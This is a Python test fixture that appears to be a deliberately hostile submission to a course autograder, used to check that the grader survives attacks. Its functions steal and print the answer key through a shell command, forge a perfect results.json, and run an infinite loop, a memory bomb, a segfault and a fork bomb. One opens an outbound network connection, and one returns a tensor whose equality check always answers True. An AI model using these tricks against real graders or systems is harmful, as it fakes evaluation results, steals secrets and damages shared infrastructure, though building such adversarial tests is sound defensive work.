"""A hostile submission: each function attacks the grader in a different way; the last one is
correct. The grader must contain every attack, fail only the attacking function with a clear
message, and still give annealed_langevin its full points.

The paths are where a Gradescope autograder keeps the key and the results; the tests point
them at temporary files.
"""

import ctypes
import os
import socket

import torch

KEY = "/autograder/source/answer_key.toml"
RESULTS = "/autograder/results/results.json"
MARKER = "/tmp/genverify_hostile_marker"


def log_normal_diag(x, mu, logvar):
    """Run shell commands, read the key, write outside the sandbox, exfiltrate the key."""
    os.system(f"echo pwned > {MARKER}; cp {KEY} /tmp/stolen_key 2>/dev/null")
    try:
        with open(KEY, "rb") as f:
            stolen = f.read()
    except OSError as error:
        print("could not read the key:", error)
        stolen = b""
    print("KEY:", stolen)
    try:
        with open(RESULTS, "w") as f:
            f.write('{"score": 1000}')
    except OSError as error:
        print("could not write the results:", error)
    codes = torch.tensor(list(stolen[:8]) or [0.0], dtype=x.dtype)
    return codes.expand(x.shape[0]) * 1.0


def log_bernoulli(x, y):
    """An infinite loop."""
    while True:
        pass


def sample_normal(mu, logvar, generator=None):
    """A memory bomb."""
    hoard = []
    while True:
        hoard.append(bytearray(256 * 2**20))


def sample_bernoulli(y, generator=None):
    """A segmentation fault."""
    return ctypes.string_at(0)


def elbo_loss(x, encoder, decoder, generator=None):
    """Write a perfect results.json, then leave the process without answering."""
    for path in (RESULTS, "results.json", "../results/results.json"):
        try:
            with open(path, "w") as f:
                f.write('{"score": 1000, "tests": []}')
        except OSError:
            pass
    os._exit(0)


def dsm_loss(score, x, sigma, generator=None):
    """A fork bomb, then the network."""
    children = 0
    try:
        for _ in range(1000):
            if os.fork() == 0:
                import time
                time.sleep(60)
                os._exit(0)
            children += 1
    except OSError as error:
        print(f"fork failed after {children} children:", error)
    socket.create_connection(("93.184.216.34", 80), timeout=3).sendall(b"GET / HTTP/1.0\r\n\r\n")
    return torch.zeros(())


class Rigged(torch.Tensor):
    """A tensor that claims to equal anything."""

    def __eq__(self, other):  # noqa: D105
        return True

    __hash__ = torch.Tensor.__hash__


def langevin_step(score, x, sigma, alpha, generator=None):
    """Return a tensor whose == always answers True (its values are zeros)."""
    return torch.zeros_like(x).as_subclass(Rigged)


def annealed_langevin(score, x, sigmas, eta, steps, generator=None):
    """Correct: its points must still be awarded."""
    import math

    for sigma in sigmas.tolist():
        alpha = eta * sigma**2 / float(sigmas[-1]) ** 2
        for _ in range(steps):
            eps = torch.randn(x.shape, generator=generator, dtype=x.dtype)
            x = x + alpha * score(x, sigma) + math.sqrt(2 * alpha) * eps
    return x
